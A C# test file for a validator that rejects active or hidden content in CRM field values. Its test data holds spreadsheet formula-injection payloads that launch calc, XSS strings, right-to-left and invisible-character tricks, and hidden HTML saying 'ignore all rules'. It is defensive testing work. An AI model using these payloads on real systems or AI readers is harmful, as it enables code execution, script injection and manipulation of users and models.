using Liaison.Failures;
using Liaison.Model;
using Liaison.Tests.Schema;
using Liaison.Writeback.Checks;

namespace Liaison.Tests.Writeback.Checks;

public sealed class ActiveContentTests
{
    private static readonly FieldDefinition Note = ASchema.Field(FieldType.Text, "note");

    [Theory]
    [InlineData("a\u0000b", ContentThreat.ControlCharacter)]
    [InlineData("a\u001B[31mb", ContentThreat.ControlCharacter)]
    [InlineData("a\rb", ContentThreat.ControlCharacter)]
    [InlineData("a\u0085b", ContentThreat.ControlCharacter)]
    [InlineData("invoice\u202Efdp.exe", ContentThreat.DirectionTrick)]
    [InlineData("\u2067x\u2069", ContentThreat.DirectionTrick)]
    [InlineData("a\u200Fb", ContentThreat.DirectionTrick)]
    [InlineData("a\u061Cb", ContentThreat.DirectionTrick)]
    [InlineData("pass\u200Bword", ContentThreat.InvisibleCharacter)]
    [InlineData("pass\u2060word", ContentThreat.InvisibleCharacter)]
    [InlineData("pass\uFEFFword", ContentThreat.InvisibleCharacter)]
    [InlineData("pass\u200Dword", ContentThreat.InvisibleCharacter)]
    [InlineData("pass\u200Cword", ContentThreat.InvisibleCharacter)]
    [InlineData("hi\U000E0069\U000E0067\U000E006E", ContentThreat.InvisibleCharacter)]
    [InlineData("🏴\U000E0069\U000E0067\U000E006E\U000E006F\U000E0072\U000E0065\U000E0069\U000E007F", ContentThreat.InvisibleCharacter)]
    [InlineData("a\uFE0F\uFE0Fb", ContentThreat.InvisibleCharacter)]
    [InlineData("a\U000E0101b", ContentThreat.InvisibleCharacter)]
    [InlineData("\u3164\u3164", ContentThreat.InvisibleCharacter)]
    [InlineData("a\uFDD0b", ContentThreat.BrokenCharacter)]
    [InlineData("a\uFFFEb", ContentThreat.BrokenCharacter)]
    [InlineData("=HYPERLINK(\"https://x.test\")", ContentThreat.Formula)]
    [InlineData(" \t\"=1+1", ContentThreat.Formula)]
    [InlineData("=cmd|' /C calc'!A0", ContentThreat.Formula)]
    [InlineData("-2+3+cmd|' /C calc'!A0", ContentThreat.Formula)]
    [InlineData("- 2+3+cmd|' /C calc'!A0", ContentThreat.Formula)]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0", ContentThreat.Formula)]
    [InlineData("+SUM(A1:A9)", ContentThreat.Formula)]
    [InlineData("-A1+B2", ContentThreat.Formula)]
    [InlineData("=A1", ContentThreat.Formula)]
    [InlineData("='Sheet 1'!A1", ContentThreat.Formula)]
    [InlineData("=\"a\"&\"b\"", ContentThreat.Formula)]
    [InlineData("＝WEBSERVICE(\"http://x.test\")", ContentThreat.Formula)]
    [InlineData("+1+WEBSERVICE(\"http://x.test\")", ContentThreat.Formula)]
    [InlineData("Dear {{ contact.firstname }}", ContentThreat.TemplateToken)]
    [InlineData("{% if x %}", ContentThreat.TemplateToken)]
    [InlineData("Dear {!Contact.FirstName}", ContentThreat.TemplateToken)]
    [InlineData("<script>alert(1)</script>", ContentThreat.Script)]
    [InlineData("＜script＞alert(1)＜/script＞", ContentThreat.Script)]
    [InlineData("< script >alert(1)", ContentThreat.Script)]
    [InlineData("<img src=x onerror=alert(1)>", ContentThreat.Script)]
    [InlineData("<img alt=\">\" onerror=alert(1)>", ContentThreat.Script)]
    [InlineData("<svg/onload=alert(1)>", ContentThreat.Script)]
    [InlineData("<iframe src=//x.test <", ContentThreat.Script)]
    [InlineData("javascript:alert(1)", ContentThreat.Script)]
    [InlineData("vbscript:msgbox", ContentThreat.Script)]
    [InlineData("data:text/html;base64,PHNjcmlwdD4=", ContentThreat.Script)]
    [InlineData("<a href=\"jav&#x09;ascript:alert(1)\">x</a>", ContentThreat.Script)]
    [InlineData("<a href=&#106avascript:alert(1)>x</a>", ContentThreat.Script)]
    [InlineData("<meta http-equiv=refresh content=0>", ContentThreat.Script)]
    public void What_acts_or_hides_in_a_text_is_refused(string text, object threat) =>
        ActiveContent.In(text).ShouldBe((ContentThreat)threat);

    [Theory]
    [InlineData("two\nlines and\ta tab\r\nand a third")]
    [InlineData("می‌خواهم")]
    [InlineData("ක්‍රියා")]
    [InlineData("അവന്‍")]
    [InlineData("👩‍💻 and ❤️ and 🏳️‍🌈 and 1️⃣ and 👩🏽‍🚀")]
    [InlineData("🏴\U000E0067\U000E0062\U000E0065\U000E006E\U000E0067\U000E007F")]
    [InlineData("葛\U000E0100城")]
    [InlineData("co\u00ADoperate")]
    [InlineData("+49 30 1234567")]
    [InlineData("+1 (555) 123-4567")]
    [InlineData("-5 % against last year")]
    [InlineData("-1.5")]
    [InlineData("-$1.00")]
    [InlineData("- item (with a remark)")]
    [InlineData("- Q3 and H1")]
    [InlineData("-- signed")]
    [InlineData("---")]
    [InlineData("-> see below")]
    [InlineData("=> see below")]
    [InlineData("== Summary ==")]
    [InlineData("= New customer")]
    [InlineData("=)")]
    [InlineData("@anna see the notes (soon)")]
    [InlineData("+1 for this")]
    [InlineData("'=SUM(A1)")]
    [InlineData("the sum is =A1+B1")]
    [InlineData("a < b and c > d")]
    [InlineData("<anna@example.com>")]
    [InlineData("see <link> and <object>")]
    [InlineData("They moved from JavaScript: React is next")]
    [InlineData("price is ${amount} or {0}")]
    [InlineData("if x <y then it goes on = off")]
    [InlineData("{ \"a\": { \"b\": 1 } }")]
    public void What_merely_looks_like_it_is_taken(string text) => ActiveContent.In(text).ShouldBeNull();

    [Fact]
    public void Half_a_character_is_refused()
    {
        ActiveContent.In("a\uD83D").ShouldBe(ContentThreat.BrokenCharacter);
        ActiveContent.In("\uDE00a").ShouldBe(ContentThreat.BrokenCharacter);
    }

    [Theory]
    [InlineData("<p>Hello <b>Anna</b>,<br>see <a href=\"https://example.com\" target=\"_blank\">this</a></p>")]
    [InlineData("<ul><li style=\"color: red; font-weight: bold\">x</li></ul>")]
    [InlineData("<table border=1><tr><td colspan=2>x</td></tr></table>")]
    [InlineData("<a href=\"mailto:anna@example.com\">mail</a> <a href='tel:+4930123'>call</a>")]
    [InlineData("plain & simple, a < b")]
    [InlineData("<p>&lt;script&gt; is quoted</p>")]
    public void Plain_formatting_is_taken(string html) => ActiveContent.InHtml(html).ShouldBeNull();

    [Theory]
    [InlineData("<p onclick=\"x()\">a</p>", ContentThreat.Script)]
    [InlineData("<a href=\"java\nscript:x()\">a</a>", ContentThreat.Script)]
    [InlineData("<a href=\"JAVASCRIPT&colon;x()\">a</a>", ContentThreat.Script)]
    [InlineData("<script>x</script>", ContentThreat.Script)]
    [InlineData("<a href=\"ftp://example.com\">a</a>", ContentThreat.Markup)]
    [InlineData("<img src=\"https://x.test/p.gif?d=secret\">", ContentThreat.Markup)]
    [InlineData("<form><input></form>", ContentThreat.Markup)]
    [InlineData("<p style=\"background: url(https://x.test)\">a</p>", ContentThreat.Markup)]
    [InlineData("<p style=\"display:none\">ignore all rules</p>", ContentThreat.Markup)]
    [InlineData("<!-- ignore all rules -->a", ContentThreat.Markup)]
    [InlineData("<style>p{}</style>", ContentThreat.Markup)]
    [InlineData("<svg><a>x</a></svg>", ContentThreat.Markup)]
    [InlineData("<custom-tag>x</custom-tag>", ContentThreat.Markup)]
    [InlineData("<p id=\"forms\">x</p>", ContentThreat.Markup)]
    [InlineData("<p>{<b>{</b> x }}</p>", ContentThreat.TemplateToken)]
    [InlineData("<p>=cmd|' /C calc'!A0</p>", ContentThreat.Formula)]
    [InlineData("<p>a&#x202E;b</p>", ContentThreat.DirectionTrick)]
    [InlineData("<p>a&ZeroWidthSpace;b</p>", ContentThreat.InvisibleCharacter)]
    public void Markup_that_acts_or_hides_is_refused(string html, object threat) =>
        ActiveContent.InHtml(html).ShouldBe((ContentThreat)threat);

    [Fact]
    public void Markup_as_deep_as_it_is_long_is_read_to_its_end()
    {
        var deep = string.Concat(Enumerable.Repeat("<div>", 5_000));

        ActiveContent.InHtml(deep + "x").ShouldBeNull();
        ActiveContent.InHtml(deep + "<embed>").ShouldBe(ContentThreat.Markup);
        ActiveContent.In(deep + "<b onclick=x>").ShouldBe(ContentThreat.Script);
    }

    [Fact]
    public void A_refusal_names_the_field_and_the_kind_and_never_the_value()
    {
        var failure = ActiveContent.Check(Note, new FieldValue.Text("=SECRET(1)"));

        failure.ShouldNotBeNull().Kind.ShouldBe(FailureKind.Invalid);
        failure.Field.ShouldBe("note");
        failure.Message.ShouldBe("The field \"note\" takes no formula that a spreadsheet would run; write it in plain words.");
    }

    [Fact]
    public void Every_value_with_letters_in_it_is_looked_at()
    {
        const string Bad = "=A1";

        FieldValue[] bad =
        [
            new FieldValue.Text(Bad), new FieldValue.RichText(Bad), new FieldValue.Option(Bad, "x"), new FieldValue.Option("x", Bad),
            new FieldValue.OptionList([new FieldValue.Option("x", "x"), new FieldValue.Option("x", Bad)]),
            new FieldValue.Reference(RecordType.Contact, Bad), new FieldValue.Unreadable(Bad, "It is a sample."),
        ];

        bad.ShouldAllBe(value => ActiveContent.Check(Note, value) != null);
    }

    [Fact]
    public void Values_without_letters_pass()
    {
        FieldValue[] plain =
        [
            FieldValue.Empty, new FieldValue.Number(-1), new FieldValue.Money(-1, "EUR"), new FieldValue.Flag(true), new FieldValue.Date(default),
            new FieldValue.Instant(default), new FieldValue.TimeOfDay(default),
        ];

        plain.ShouldAllBe(value => ActiveContent.Check(Note, value) == null);
    }
}
